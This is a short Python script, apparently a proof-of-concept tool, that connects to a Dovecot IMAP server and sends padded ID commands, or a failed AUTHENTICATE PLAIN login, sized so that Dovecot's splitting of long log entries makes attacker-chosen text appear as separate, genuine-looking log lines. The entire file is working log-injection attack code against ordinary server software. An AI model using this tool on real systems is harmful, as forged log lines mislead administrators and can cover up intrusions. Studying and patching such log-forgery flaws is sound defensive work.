#!/usr/bin/python3
"""forge-pieces: an IMAP client that has Dovecot log what looks like lines of its own.

    forge-pieces.py SERVER OFFSET MESSAGE...       one ID command for each message and alignment
    forge-pieces.py SERVER name OFFSET MESSAGE... the message is the name of a failed login

Dovecot logs what a client says of itself (imap_id_log), and writes what is longer than 4 kB in
pieces. OFFSET is how many bytes of what the client says the first piece holds. Each message is moved
over the cut byte by byte, so that the second piece begins at each of its first bytes, and once at
its first.

SPDX-License-Identifier: BSD-2-Clause
"""
import base64
import os
import socket
import sys

ROUND = 2 if os.environ.get("LONG") else 1  # to either side of OFFSET


def talk(server, commands):
    with socket.create_connection((server, 143), timeout=10) as client:
        lines = client.makefile("rb")
        lines.readline()
        for tag, command in commands:
            client.sendall(b"%s %s\r\n" % (tag, command))
            line = lines.readline()
            while line and not line.startswith(tag + b" "):
                line = lines.readline()


def filler(length):
    """Pairs that are logged with so many bytes, `, ` behind each."""
    pairs = []
    while length > 0:
        size = length if length <= 88 else min(88, length - 20)
        key = b"k%04d" % len(pairs)
        pairs += [key, b"A" * (size - len(key) - 3)]
        length -= size
    return pairs


def identify(pairs):
    return b"ID (" + b" ".join(b'"%s"' % text for text in pairs) + b")"


def main():
    server, *rest = sys.argv[1:]
    is_name = rest[0] == "name"
    offset, *messages = rest[1:] if is_name else rest
    for message in messages:
        text = message.encode()
        for shift in range(-ROUND, ROUND):
            commands = []
            length = int(offset) + shift
            if is_name:
                secret = base64.b64encode(b"\0" + text + b"\0x")
                commands.append((b"a", b"AUTHENTICATE PLAIN " + secret))
                commands.append((b"b", identify(filler(length - 30) + [b"z", b"B" * 16])))
            else:
                commands.append((b"b", identify(filler(length - 3) + [b"z", text])))
            talk(server, commands)


main()
